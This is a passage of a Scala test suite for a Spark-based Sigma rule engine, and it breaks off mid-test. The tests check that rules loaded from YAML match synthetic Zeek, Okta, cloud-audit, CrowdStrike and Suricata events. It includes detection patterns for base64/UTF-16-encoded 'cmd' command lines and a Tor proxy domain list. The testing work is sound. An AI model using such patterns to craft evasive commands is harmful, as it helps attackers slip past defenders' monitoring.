    val bomLe = Base64.getEncoder.encodeToString(
      Array[Byte](0xFF.toByte, 0xFE.toByte) ++
        "cmd".getBytes(StandardCharsets.UTF_16LE))
    val beAt1 = Base64.getEncoder.encodeToString(
      Array[Byte]('A'.toByte) ++ "cmd".getBytes(StandardCharsets.UTF_16BE))
    val f = Seq((1L, bomLe), (2L, beAt1), (3L, "plain"))
      .toDF("id", "CommandLine")
    val bom = SigmaRules.load(
      """title: b
        |detection:
        |  sel:
        |    CommandLine|utf16|base64: 'cmd'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, bom.detect) == Set(1L))
    val be = SigmaRules.load(
      """title: c
        |detection:
        |  sel:
        |    CommandLine|utf16be|base64offset|contains: 'cmd'
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, be.detect) == Set(2L))
    val e = intercept[RuntimeException] {
      SigmaRules.load(
        """title: d
          |detection:
          |  sel:
          |    CommandLine|utf16le|contains: 'x'
          |  condition: sel
          |""".stripMargin).detect
    }
    assert(e.getMessage.contains("base64"))
  }

  test("fieldref compares a field to another field's runtime value") {
    val f = Seq(
      (1L, "cmd.exe", "cmd.exe"),
      (2L, "CMD.EXE", "cmd.exe"), // Sigma default: case-insensitive
      (3L, "powershell.exe", "cmd.exe"),
      (4L, "evil-cmd.exe", "cmd.exe"))
      .toDF("id", "Image", "ParentImage")
    val rule = SigmaRules.load(
      """title: self-spawn
        |detection:
        |  sel:
        |    Image|fieldref: ParentImage
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, rule.detect) == Set(1L, 2L))
    val ends = SigmaRules.load(
      """title: suffix
        |detection:
        |  sel:
        |    Image|fieldref|endswith: ParentImage
        |  condition: sel
        |""".stripMargin)
    assert(matchedIds(f, ends.detect) == Set(1L, 2L, 4L))
  }

  test("a selection literally named 1 is an identifier, not a quantifier") {
    val f = Seq((1L, "error", "x"), (2L, "view", "x"), (3L, "error", "y"))
      .toDF("id", "event_type", "site")
    val rule = SigmaRules.load(
      """title: n
        |detection:
        |  1:
        |    event_type: error
        |  sel2:
        |    site: x
        |  condition: 1 and sel2
        |""".stripMargin)
    assert(matchedIds(f, rule.detect) == Set(1L))
    // the quantifier grammar is untouched: '1 of' still counts
    val quant = SigmaRules.load(
      """title: q
        |detection:
        |  sel_a: {event_type: error}
        |  sel_b: {site: y}
        |  condition: 1 of sel_*
        |""".stripMargin)
    assert(matchedIds(f, quant.detect) == Set(1L, 3L))
  }

  test("block scalar containing a bare --- line does not split the stream") {
    val rules = SigmaRules.loadAll(
      """title: one
        |description: |
        |  first part of the description
        |  ---
        |  the separator above is CONTENT, not a document boundary
        |detection:
        |  sel: {event_type: error}
        |  condition: sel
        |---
        |title: two
        |detection:
        |  sel: {event_type: view}
        |  condition: sel
        |""".stripMargin)
    assert(rules.map(_.title) == Seq("one", "two"))
    assert(matchedIds(ev, rules(0).detect) == Set(1L, 2L))
    assert(matchedIds(ev, rules(1).detect) == Set(5L))
    // same through the rule-pack path
    val dir = tempDir("sigma_pack3")
    java.nio.file.Files.writeString(dir.resolve("r.yml"),
      """title: blocky
        |description: |
        |  payload with
        |  ---
        |  inside
        |detection:
        |  sel: {event_type: error}
        |  condition: sel
        |""".stripMargin)
    val (packRules, _) = SigmaRules.loadRulePack(dir.toString)
    assert(packRules.map(_.title) == Seq("blocky"))
  }

  // ---- per-source field maps: zeek + okta ------------------------------

  test("DNS TOR Proxies (SigmaHQ a8322756) over the managed Zeek transform") {
    // real SigmaHQ rule zeek_dns_torproxy.yml (value list abridged):
    // zeek-native `query` field → the ECS dns.question.name column the
    // managed ZeekDns transform emits — the map is DERIVED from the
    // transform, so rule import composes with the ingest pipeline
    import graft.transform.managed.ZeekDns
    def dnsLine(id: Long, query: String): String =
      s"""{"ts":${1658256000.0 + id},"uid":"C$id","id.orig_h":"10.0.0.$id",
         |"id.orig_p":54321,"id.resp_h":"8.8.8.8","id.resp_p":53,"proto":"udp",
         |"query":"$query","qclass_name":"C_INTERNET","qtype_name":"A",
         |"rcode_name":"NOERROR","answers":[],"TTLs":[],"rejected":false}"""
        .stripMargin.replace("\n", "")
    val events = ZeekDns(Seq(
      dnsLine(1, "onion.to"), dnsLine(2, "tor2web.org"),
      dnsLine(3, "example.com"), dnsLine(4, "ONION.TO"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dir = tempDir("sigma_zeek")
    java.nio.file.Files.writeString(dir.resolve("zeek_dns_torproxy.yml"),
      """title: DNS TOR Proxies
        |id: a8322756-015c-42e7-afb1-436e85ed3ff5
        |status: test
        |description: Identifies IPs performing DNS lookups associated with common Tor proxies.
        |logsource:
        |  product: zeek
        |  service: dns
        |detection:
        |  selection:
        |    query:
        |      - 'tor2web.org'
        |      - 'tor2web.com'
        |      - 'onion.to'
        |      - 'onion.pet'
        |      - 't2w.pw'
        |      - 'onion.sh'
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, corrs) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsZeek)
    assert(rules.size == 1 && corrs.isEmpty)
    val hand = lower(col("dns.question.name"))
      .isin("tor2web.org", "tor2web.com", "onion.to", "onion.pet",
        "t2w.pw", "onion.sh")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 2L, 4L))
  }

  test("Okta Policy Rule Modified or Deleted (SigmaHQ) over the managed transform") {
    // real SigmaHQ rule okta_policy_rule_modified_or_deleted.yml:
    // lowercase okta `eventtype` field → the okta.event_type column the
    // managed Okta transform emits
    import graft.transform.managed.Okta
    def oktaLine(id: Long, eventType: String): String =
      s"""{"published":"2024-03-05T12:30:0$id.000Z","eventType":"$eventType",
         |"uuid":"u$id","actor":{"displayName":"A","id":"00u$id"},
         |"client":{"ipAddress":"198.51.100.$id"},
         |"outcome":{"result":"SUCCESS"},"target":[]}"""
        .stripMargin.replace("\n", "")
    val events = Okta(Seq(
      oktaLine(1, "policy.rule.update"), oktaLine(2, "policy.rule.delete"),
      oktaLine(3, "user.session.start"), oktaLine(4, "policy.rule.deactivate"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(okta.uuid, 2) as long)"))
    val dir = tempDir("sigma_okta")
    java.nio.file.Files.writeString(dir.resolve("okta_policy_rule_modified_or_deleted.yml"),
      """title: Okta Policy Rule Modified or Deleted
        |status: test
        |description: Detects when an Okta policy rule is modified or deleted.
        |logsource:
        |  product: okta
        |  service: okta
        |detection:
        |  selection:
        |    eventtype:
        |      - policy.rule.update
        |      - policy.rule.delete
        |      - policy.rule.deactivate
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsOkta)
    val hand = lower(col("okta.event_type"))
      .isin("policy.rule.update", "policy.rule.delete", "policy.rule.deactivate")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 2L, 4L))
    // the okta map is spelling-insensitive: camelCase rules map too
    assert(SigmaRules.ecsOkta("eventType") == "okta.event_type")
    assert(SigmaRules.ecsOkta("client.ipAddress") == "okta.client.ip")
    assert(SigmaRules.ecsOkta("displaymessage") == "okta.display_message")
    // zeek map: endpoint + dns + http correspondences come from the
    // managed transforms; the endpoint tuple's multi-hoist leaves
    // resolve to the family's most-frequent hoist (source.ip over
    // http/conn's extra source.address alias), and conn's verbatim
    // `proto` move carries the whole family
    assert(SigmaRules.ecsZeek("id.orig_h") == "source.ip")
    assert(SigmaRules.ecsZeek("query") == "dns.question.name")
    assert(SigmaRules.ecsZeek("status_code") == "http.response.status_code")
    assert(SigmaRules.ecsZeek("proto") == "network.transport")
    // cloudtrail: hoist + vendor-copy resolution, derived
    assert(SigmaRules.ecsCloudtrail("eventName") == "event.action")
    assert(SigmaRules.ecsCloudtrail("eventSource") == "event.provider")
    assert(SigmaRules.ecsCloudtrail("userIdentity.type") ==
      "aws.cloudtrail.user_identity_type")
    assert(SigmaRules.ecsCloudtrail("awsRegion") == "cloud.region")
    // requestParameters.* is a JSON-text blob in the transform — not a
    // derivable correspondence; passes through to fail loudly at bind
    assert(SigmaRules.ecsCloudtrail("requestParameters.bucketName") ==
      "requestParameters.bucketName")
  }

  test("GCP Bucket Modified or Deleted (SigmaHQ) over the managed transform") {
    // real SigmaHQ rule gcp_bucket_modified_or_deleted.yml: the Elastic
    // integration's `gcp.audit.method_name` → the ECS event.action the
    // managed GcpAudit transform hoists the method into
    import graft.transform.managed.GcpAudit
    def gcpLine(id: Long, method: String): String =
      s"""{"insertId":"e$id","severity":"NOTICE",
         |"timestamp":"2024-05-01T00:00:0${id}Z",
         |"resource":{"type":"gcs_bucket","labels":{"project_id":"p"}},
         |"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog",
         |"methodName":"$method","serviceName":"storage.googleapis.com",
         |"resourceName":"projects/_/buckets/b",
         |"authenticationInfo":{"principalEmail":"u@corp.example"},
         |"requestMetadata":{"callerIp":"203.0.113.$id"}}}"""
        .stripMargin.replace("\n", "")
    val events = GcpAudit(Seq(
      gcpLine(1, "storage.buckets.delete"),
      gcpLine(2, "storage.buckets.update"),
      gcpLine(3, "storage.buckets.get"),
      gcpLine(4, "storage.setIamPermissions"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dir = tempDir("sigma_gcp")
    java.nio.file.Files.writeString(dir.resolve("gcp_bucket_modified_or_deleted.yml"),
      """title: GCP Bucket Modified or Deleted
        |status: test
        |description: Detects when a bucket is modified or deleted.
        |logsource:
        |  product: gcp
        |  service: gcp.audit
        |detection:
        |  selection:
        |    gcp.audit.method_name|contains:
        |      - storage.buckets.delete
        |      - storage.buckets.update
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsGcpAudit)
    val hand = lower(col("event.action")).contains("storage.buckets.delete") ||
      lower(col("event.action")).contains("storage.buckets.update")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 2L))
    // the gcp map is DERIVED from the transform's expression tree — the
    // Elastic spelling resolves onto the hoisted/kept columns with no
    // hand-kept correspondence list
    assert(SigmaRules.ecsGcpAudit("gcp.audit.method_name") == "event.action")
    assert(SigmaRules.ecsGcpAudit("gcp.audit.service_name")
      == "gcp.audit.service_name") // passthrough: already a column
    assert(SigmaRules.ecsGcpAudit("gcp.audit.caller_ip")
      == "gcp.audit.request_metadata.caller_ip")
  }

  test("Azure AD sign-in + audit rule packs over DERIVED field maps") {
    import graft.transform.managed.{AadAudit, AadSignin}
    // -- signinlogs: conditional-access failure (SigmaHQ-style Graph
    //    spelling) over the managed AadSignin transform
    def signinLine(id: Long, cas: String, risk: String): String =
      s"""{"id":"x$id","createdDateTime":"2024-06-01T00:00:0${id}Z",
         |"operationName":"Sign-in activity","level":"4","tenantId":"t",
         |"callerIpAddress":"203.0.113.$id",
         |"properties":{"id":"s$id","userPrincipalName":"u$id@corp.example",
         |"userDisplayName":"User $id","userId":"uid$id",
         |"appDisplayName":"App","ipAddress":"203.0.113.$id",
         |"clientAppUsed":"Browser","conditionalAccessStatus":"$cas",
         |"isInteractive":true,"riskState":"$risk",
         |"status":{"errorCode":0}}}""".stripMargin.replace("\n", "")
    val signins = AadSignin(Seq(
      signinLine(1, "failure", "none"), signinLine(2, "success", "none"),
      signinLine(3, "failure", "atRisk"), signinLine(4, "notApplied", "none"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dirS = tempDir("sigma_aad_signin")
    java.nio.file.Files.writeString(
      dirS.resolve("azure_conditional_access_failure.yml"),
      """title: Sign-In Denied by Conditional Access
        |status: test
        |logsource:
        |  product: azure
        |  service: signinlogs
        |detection:
        |  selection:
        |    conditionalAccessStatus: failure
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (signinRules, _) = SigmaRules.loadRulePack(dirS.toString,
      fieldMap = SigmaRules.ecsAzureSignin)
    val handS = lower(
      col("azure.aad_signinlogs.conditional_access_status")) === "failure"
    assert(matchedIds(signins, signinRules.head.detect)
      == matchedIds(signins, handS))
    assert(matchedIds(signins, signinRules.head.detect) == Set(1L, 3L))

    // -- auditlogs: privileged-role assignment style rule on
    //    activityDisplayName over the managed AadAudit transform
    def auditLine(id: Long, activity: String, opType: String): String =
      s"""{"id":"a$id","time":"2024-06-01T00:00:0${id}Z",
         |"operationName":"$activity","category":"AuditLogs",
         |"tenantId":"t","durationMs":5,"callerIpAddress":"203.0.113.$id",
         |"Level":"4",
         |"properties":{"id":"p$id","category":"UserManagement",
         |"activityDateTime":"2024-06-01T00:00:0${id}Z",
         |"activityDisplayName":"$activity","result":"success",
         |"operationType":"$opType","loggedByService":"Core Directory"}}"""
        .stripMargin.replace("\n", "")
    val audits = AadAudit(Seq(
      auditLine(1, "Add member to role", "Add"),
      auditLine(2, "Delete user", "Delete"),
      auditLine(3, "Update user", "Update"),
      auditLine(4, "Add member to role", "Add"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dirA = tempDir("sigma_aad_audit")
    java.nio.file.Files.writeString(
      dirA.resolve("azure_role_member_added.yml"),
      """title: Member Added to Privileged Role
        |status: test
        |logsource:
        |  product: azure
        |  service: auditlogs
        |detection:
        |  selection:
        |    ActivityDisplayName: Add member to role
        |  condition: selection
        |level: high
        |""".stripMargin)
    val (auditRules, _) = SigmaRules.loadRulePack(dirA.toString,
      fieldMap = SigmaRules.ecsAzureAudit)
    val handA = lower(col("azure.aad_auditlogs.activity_display_name")) ===
      "add member to role"
    assert(matchedIds(audits, auditRules.head.detect)
      == matchedIds(audits, handA))
    assert(matchedIds(audits, auditRules.head.detect) == Set(1L, 4L))

    // derived-map spot checks: Graph spellings in ANY convention resolve
    // onto the emitted columns; already-column paths pass through
    assert(SigmaRules.ecsAzureSignin("userPrincipalName")
      == "azure.aad_signinlogs.user_principal_name")
    assert(SigmaRules.ecsAzureSignin("riskState")
      == "azure.aad_signinlogs.risk_state")
    assert(SigmaRules.ecsAzureSignin("risk_state")
      == "azure.aad_signinlogs.risk_state")
    assert(SigmaRules.ecsAzureSignin("status.errorCode")
      == "azure.aad_signinlogs.status.error_code")
    assert(SigmaRules.ecsAzureAudit("Category")
      == "azure.aad_auditlogs.category")
    // the transform hoists the initiator UPN into ECS user.name — the
    // hoist wins over the azure.* struct copy
    assert(SigmaRules.ecsAzureAudit("initiatedBy.user.userPrincipalName")
      == "user.name")
    // a portal alias with no Graph counterpart passes through loudly
    assert(SigmaRules.ecsAzureSignin("ResultType") == "ResultType")
  }

  test("Github Delete Action Invoked (SigmaHQ) over the DERIVED github map") {
    import graft.transform.managed.GithubAudit
    // real SigmaHQ rule github_delete_action_invoked.yml: SigmaHQ github
    // rules spell fields in the raw audit log's own snake_case; `action`
    // resolves onto the ECS event.action hoist
    def ghLine(id: Long, action: String): String =
      s"""{"_document_id":"g$id","@timestamp":${1714521600000L + id},
         |"created_at":${1714521600000L + id},"action":"$action",
         |"actor":"dev$id","actor_ip":"203.0.113.$id",
         |"org":"corp","repo":"corp/app",
         |"transport_protocol_name":"http","repository_public":false}"""
        .stripMargin.replace("\n", "")
    val events = GithubAudit(Seq(
      ghLine(1, "repo.destroy"),
      ghLine(2, "project.delete"),
      ghLine(3, "repo.create"),
      ghLine(4, "git.clone"))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dir = tempDir("sigma_github")
    java.nio.file.Files.writeString(dir.resolve("github_delete_action_invoked.yml"),
      """title: Github Delete Action Invoked
        |status: test
        |description: Detects delete action in the Github audit logs for codespaces, environment, project and repo.
        |logsource:
        |  product: github
        |  service: audit
        |detection:
        |  selection:
        |    action:
        |      - codespaces.delete
        |      - environment.delete
        |      - project.delete
        |      - repo.destroy
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsGithubAudit)
    val hand = lower(col("event.action")).isin(
      "codespaces.delete", "environment.delete", "project.delete", "repo.destroy")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 2L))
    // derived-map spot checks: raw snake_case resolves onto hoists/copies,
    // emitted column names pass through
    assert(SigmaRules.ecsGithubAudit("action") == "event.action")
    assert(SigmaRules.ecsGithubAudit("actor") == "user.name")
    assert(SigmaRules.ecsGithubAudit("transport_protocol_name")
      == "github.transport_protocol.name")
    assert(SigmaRules.ecsGithubAudit("github.org") == "github.org")
  }

  test("M365 federated-domain rule (SigmaHQ audit style) over the DERIVED " +
      "o365 map") {
    import graft.transform.managed.O365Audit
    // SigmaHQ m365 audit-style rules spell the unified audit log's own
    // PascalCase names: Workload + Operation (+ UserId)
    def ual(id: Long, workload: String, op: String): String =
      s"""{"CreationTime":"2024-07-01T00:00:0${id}Z","Id":"o$id",
         |"Operation":"$op","OrganizationId":"org","RecordType":8,
         |"ResultStatus":"Succeeded","UserId":"admin$id@corp.example",
         |"UserType":2,"Workload":"$workload",
         |"ObjectId":"corp.example"}""".stripMargin.replace("\n", "")
    val events = O365Audit(Seq(
      ual(1, "AzureActiveDirectory", "Set federation settings on domain."),
      ual(2, "AzureActiveDirectory", "Add user."),
      ual(3, "Exchange", "Set federation settings on domain."),
      ual(4, "AzureActiveDirectory", "Set domain authentication."))
      .toDF("json"))
      .withColumn("id", expr("cast(substring(event.id, 2) as long)"))
    val dir = tempDir("sigma_o365")
    java.nio.file.Files.writeString(
      dir.resolve("m365_new_federated_domain_added.yml"),
      """title: New Federated Domain Added
        |status: test
        |logsource:
        |  product: m365
        |  service: audit
        |detection:
        |  selection:
        |    Workload: AzureActiveDirectory
        |    Operation|contains: domain
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsO365)
    val hand = lower(col("event.provider")) === "azureactivedirectory" &&
      lower(col("event.action")).contains("domain")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 4L))
    // derived-map spot checks: verbatim moves derive; computed moves are
    // hand-kept (Operation) or pass through loudly (ResultStatus)
    assert(SigmaRules.ecsO365("Workload") == "event.provider")
    assert(SigmaRules.ecsO365("UserId") == "user.id")
    assert(SigmaRules.ecsO365("ObjectId") == "o365.audit.object_id")
    assert(SigmaRules.ecsO365("Operation") == "event.action")
    assert(SigmaRules.ecsO365("ResultStatus") == "ResultStatus")
  }

  test("CrowdStrike Falcon 2FA-denied rule over the DERIVED falcon map") {
    import graft.transform.managed.CrowdstrikeFalcon
    def falcon(id: Long, et: String, op: String): String =
      s"""{"metadata":{"eventType":"$et","eventCreationTime":${1719800000 + id},
         |"offset":$id,"customerIDString":"cid","version":"1.0"},
         |"event":{"OperationName":"$op","UserName":"u$id@corp.example",
         |"UserId":"uid$id","Success":false,"ServiceName":"CrowdStrike"}}"""
        .stripMargin.replace("\n", "")
    val events = CrowdstrikeFalcon(Seq(
      falcon(1, "AuthActivityAuditEvent", "twoFactorAuthenticate"),
      falcon(2, "AuthActivityAuditEvent", "createUser"),
      falcon(3, "UserActivityAuditEvent", "twoFactorAuthenticate"),
      falcon(4, "AuthActivityAuditEvent", "twoFactorAuthenticate"))
      .toDF("json"))
      .withColumn("id", col("crowdstrike.metadata.offset"))
    val dir = tempDir("sigma_falcon")
    java.nio.file.Files.writeString(dir.resolve("falcon_2fa_denied.yml"),
      """title: Two-Factor Authentication Attempt
        |status: test
        |logsource:
        |  product: crowdstrike
        |  service: falcon
        |detection:
        |  selection:
        |    metadata.eventType: AuthActivityAuditEvent
        |    OperationName: twoFactorAuthenticate
        |  condition: selection
        |level: medium
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsCrowdstrikeFalcon)
    val hand =
      lower(col("crowdstrike.metadata.event_type")) === "authactivityauditevent" &&
      lower(col("crowdstrike.event.operation_name")) === "twofactorauthenticate"
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 4L))
    // the envelope + verbatim scalars DERIVE; denull-scrubbed payload
    // fields are hand-kept; computed casts pass through loudly
    assert(SigmaRules.ecsCrowdstrikeFalcon("metadata.eventType")
      == "crowdstrike.metadata.event_type")
    assert(SigmaRules.ecsCrowdstrikeFalcon("Success")
      == "crowdstrike.event.success")
    assert(SigmaRules.ecsCrowdstrikeFalcon("OperationName")
      == "crowdstrike.event.operation_name")
    assert(SigmaRules.ecsCrowdstrikeFalcon("ComputerName") == "host.name")
    assert(SigmaRules.ecsCrowdstrikeFalcon("Severity") == "Severity")
  }

  test("Suricata ET-alert rule over the DERIVED suricata map") {
    import graft.transform.managed.Suricata
    def eve(id: Long, et: String, sig: String): String =
      s"""{"timestamp":"2024-07-01T00:00:0$id.000000+0000","event_type":"$et",
         |"flow_id":$id,"src_ip":"10.0.0.$id","src_port":4431,
         |"dest_ip":"203.0.113.$id","dest_port":80,"proto":"TCP",
         |"alert":{"action":"allowed","category":"Attempted Admin",
         |"signature":"$sig","signature_id":${2019400 + id},"severity":1}}"""
        .stripMargin.replace("\n", "")
    val events = Suricata(Seq(
      eve(1, "alert", "ET EXPLOIT Possible CVE-2024-0001 Attempt"),
      eve(2, "alert", "ET SCAN Nmap User-Agent"),
      eve(3, "http", "ET EXPLOIT in a non-alert row"),
      eve(4, "alert", "ET EXPLOIT Shellcode Detected"))
      .toDF("json"))
      .withColumn("id", expr("cast(suricata.eve.flow_id as long)"))
    val dir = tempDir("sigma_suricata")
    java.nio.file.Files.writeString(dir.resolve("suricata_et_exploit.yml"),
      """title: Suricata ET EXPLOIT Alert
        |status: test
        |logsource:
        |  product: suricata
        |detection:
        |  selection:
        |    event_type: alert
        |    alert.signature|contains: ET EXPLOIT
        |  condition: selection
        |level: high
        |""".stripMargin)
    val (rules, _) = SigmaRules.loadRulePack(dir.toString,
      fieldMap = SigmaRules.ecsSuricata)
    val hand = lower(col("suricata.eve.event_type")) === "alert" &&
      lower(col("rule.name")).contains("et exploit")
    assert(matchedIds(events, rules.head.detect) == matchedIds(events, hand))
    assert(matchedIds(events, rules.head.detect) == Set(1L, 4L))
    // hoists win over the suricata.eve.* struct copies; the typed vendor
    // copy wins where the hoist is a cast; ECS spellings pass through
    assert(SigmaRules.ecsSuricata("alert.signature") == "rule.name")
    assert(SigmaRules.ecsSuricata("alert.severity") == "event.severity")
    assert(SigmaRules.ecsSuricata("alert.signature_id")
      == "suricata.eve.alert.signature_id")
    assert(SigmaRules.ecsSuricata("event_type") == "suricata.eve.event_type")
    assert(SigmaRules.ecsSuricata("http.url") == "url.original")
    assert(SigmaRules.ecsSuricata("dns.question.name") == "dns.question.name")
  }

  test("near() aggregation ≡ hand-built window predicate") {
    import java.sql.Timestamp
    def t(day: Int, h: Int) = new Timestamp(
      java.time.Instant.parse(f"2024-02-$day%02dT$h%02d:00:00Z").toEpochMilli)
    // day 1: view + purchase, no error  → match
    // day 2: view + purchase + error    → suppressed by `not quiet`
    // day 3: view only                  → no purchase, no match
    // day 4: purchase only              → base rule never fired, no match
    val events = Seq(
      (1L, "view", t(1, 1)), (2L, "purchase", t(1, 5)),
      (3L, "view", t(2, 1)), (4L, "purchase", t(2, 5)), (5L, "error", t(2, 9)),
      (6L, "view", t(3, 1)),
      (7L, "purchase", t(4, 1)))
      .toDF("id", "event_type", "ts")
    val rule = SigmaRules.load(
      """title: recon_then_exfil
        |detection:
        |  recon: {event_type: view}
        |  exfil: {event_type: purchase}
        |  quiet: {event_type: error}
        |  condition: recon | near exfil and not quiet
        |timeframe: 1d
        |""".stripMargin)
    val corr = rule.correlation.get
    assert(corr.corrType == "temporal" && corr.negResolved.size == 1)
    val got = SigmaRules.correlationMatches(events, Seq(rule), corr)
      .select(unix_seconds(col("window_start")).as("w"), col("n"))
      .collect().map(r => (r.getLong(0), r.getLong(1))).toSet
    // hand-built: per tumbling day window, saw view AND purchase AND no
    // error
    val win = ((unix_seconds(col("ts")) / 86400).cast("long") * 86400)
    val hand = events.groupBy(win.as("w"))
      .agg(
        max(when(col("event_type") === "view", 1).otherwise(0)).as("v"),
        max(when(col("event_type") === "purchase", 1).otherwise(0)).as("p"),
        max(when(col("event_type") === "error", 1).otherwise(0)).as("e"))
      .filter(col("v") === 1 && col("p") === 1 && col("e") === 0)
      .select(col("w"), lit(2L).as("n"))
      .collect().map(r => (r.getLong(0), r.getLong(1))).toSet
    assert(got == hand && got.size == 1)
    // loading a near()-bearing rule no longer throws; unknown selection
    // names still fail loudly
    val err = intercept[RuntimeException] {
      SigmaRules.load(
        """title: bad_near
          |detection:
          |  a: {event_type: view}
          |  condition: a | near nosuch
          |""".stripMargin)
    }
    assert(err.getMessage.contains("nosuch"))
  }

  test("nearProximityMatches: true sliding proximity fires across tumbling " +
      "boundaries; negatives veto; groups isolate; null groups match null") {
    import java.sql.Timestamp
    def ts(day: Int, hm: String) = new Timestamp(
      java.time.Instant.parse(f"2024-02-$day%02dT$hm:00Z").toEpochMilli)
    // u=1: purchase 00:01 day2, view 23:59 day1 — STRADDLES the day
    //   boundary, 120 s apart → proximity fires (tumbling 1d would not)
    // u=2: purchase with a view in range AND a click in range → vetoed
    // u=3: purchase, nearest view 11 min away → out of ±600 s
    // u=4: view in range but owned by u=1 → group isolation, no fire
    // u=null: purchase + view in range, both null user → <=> matches
    val events = Seq(
      (10L, Option(1L), "view", ts(1, "23:59")),
      (11L, Option(1L), "purchase", ts(2, "00:01")),
      (20L, Option(2L), "view", ts(3, "12:00")),
      (21L, Option(2L), "purchase", ts(3, "12:05")),
      (22L, Option(2L), "click", ts(3, "12:08")),
      (30L, Option(3L), "purchase", ts(4, "08:00")),
      (31L, Option(3L), "view", ts(4, "08:11")),
      (40L, Option(4L), "purchase", ts(2, "00:02")),
      (50L, None, "purchase", ts(5, "09:00")),
      (51L, None, "view", ts(5, "09:04")))
      .toDF("id", "user_id", "event_type", "ts")
    val got = SigmaRules.nearProximityMatches(events,
        base = col("event_type") === "purchase",
        positives = Seq(col("event_type") === "view"),
        negatives = Seq(col("event_type") === "click"),
        timeframeSeconds = 600L, groupBy = Seq("user_id"))
      .select(col("id")).collect().map(_.getLong(0)).toSet
    assert(got == Set(11L, 50L))
    // the same straddling pair under the TUMBLING near(): does NOT fire
    // (documented narrowing this operator exists to close)
    val rule = SigmaRules.load(
      """title: straddle
        |detection:
        |  base: {event_type: purchase}
        |  v: {event_type: view}
        |  condition: base | near v
        |timeframe: 1d
        |""".stripMargin)
    val u1 = events.filter(col("user_id") === 1L)
    assert(SigmaRules.correlationMatches(u1, Seq(rule),
      rule.correlation.get).count() == 0L)
  }

  test("nearProximityMatches: an over-broadcast match set falls back to the " +
      "time-bucketed equi join — identical results, broadcast-free plan") {
    import java.sql.Timestamp
    def ts(day: Int, hm: String) = new Timestamp(
      java.time.Instant.parse(f"2024-02-$day%02dT$hm:00Z").toEpochMilli)
    // the q158 fixture class plus an exact-boundary pair (|Δt| = tf,
    // straddling a bucket edge) to pin the ±1-neighbor expansion
    val events = Seq(
      (10L, Option(1L), "view", ts(1, "23:59")),
      (11L, Option(1L), "purchase", ts(2, "00:01")),
      (20L, Option(2L), "view", ts(3, "12:00")),
      (21L, Option(2L), "purchase", ts(3, "12:05")),
      (22L, Option(2L), "click", ts(3, "12:08")),
      (30L, Option(3L), "purchase", ts(4, "08:00")),
      (31L, Option(3L), "view", ts(4, "08:11")),
      (40L, Option(4L), "purchase", ts(2, "00:02")),
      (50L, None, "purchase", ts(5, "09:00")),
      (51L, None, "view", ts(5, "09:04")),
      (60L, Option(5L), "view", ts(6, "10:00")),
      (61L, Option(5L), "purchase", ts(6, "10:10")))
      .toDF("id", "user_id", "event_type", "ts")
    def run(maxBytes: Long) = SigmaRules.nearProximityMatches(events,
      base = col("event_type") === "purchase",
      positives = Seq(col("event_type") === "view"),
      negatives = Seq(col("event_type") === "click"),
      timeframeSeconds = 600L, groupBy = Seq("user_id"),
      broadcastMaxBytes = maxBytes)
    val viaBroadcast = run(64L * 1024 * 1024)
    val viaBuckets = run(1L) // every selection side is "too big"
    val expected = Set(11L, 50L, 61L)
    assert(viaBroadcast.select(col("id")).collect()
      .map(_.getLong(0)).toSet == expected)
    assert(viaBuckets.select(col("id")).collect()
      .map(_.getLong(0)).toSet == expected,
      "bucketed fallback must be result-identical")
    // With the planner's own size-based conversion disabled, only a
    // user-forced hint can produce a broadcast: the gated path still
    // carries one, the fallback must carry NONE (at 100 TB the planner
    // would make the same call for real).
    val thresholdKey = "spark.sql.autoBroadcastJoinThreshold"
    val saved = spark.conf.get(thresholdKey)
    try {
      spark.conf.set(thresholdKey, "-1")
      val planBkt = run(1L).queryExecution.sparkPlan.toString
      assert(!planBkt.contains("Broadcast"),
        s"fallback plan must carry no broadcast hint:\n$planBkt")
      // equi-key extraction: the fallback joins must be hash/sort-merge,
      // never nested-loop (which a pure range condition would force)
      assert(!planBkt.contains("NestedLoop"),
        s"fallback must keep equi keys:\n$planBkt")
      val planBc = run(64L * 1024 * 1024).queryExecution.sparkPlan.toString
      assert(planBc.contains("Broadcast"),
        "gated path keeps its hint for fitting match sets")
    } finally spark.conf.set(thresholdKey, saved)
  }

  test("audit sweep: every hand-kept field-map target is a live output " +
      "column of its managed transform") {
    // the hand-kept computed moves are the ONE part of the Sigma field
    // maps FieldMapDerive cannot re-derive — this sweep turns a silent
